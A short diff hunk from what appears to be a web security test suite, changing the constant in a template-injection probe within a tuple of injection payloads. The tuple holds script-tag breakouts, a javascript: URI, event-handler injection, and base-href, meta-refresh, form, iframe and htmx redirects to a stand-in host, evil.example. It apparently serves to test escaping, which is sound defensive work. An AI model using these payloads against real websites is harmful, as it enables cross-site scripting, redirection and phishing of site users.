@@ -15,7 +15,7 @@ PAYLOADS: Final = (
     f"</textarea></title></script><script>{OWNED}</script>",
     f"javascript:{OWNED}",
     f'" autofocus onfocus="{OWNED}" x="',
-    "{{ 7 * 191 }}{% raw %}",
+    "{{ 7 * 1913371 }}{% raw %}",
     '"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
     '"><form action="https://evil.example/"><iframe src="https://evil.example/"></iframe>',
     '" hx-get="https://evil.example/" hx-trigger="load" x="',
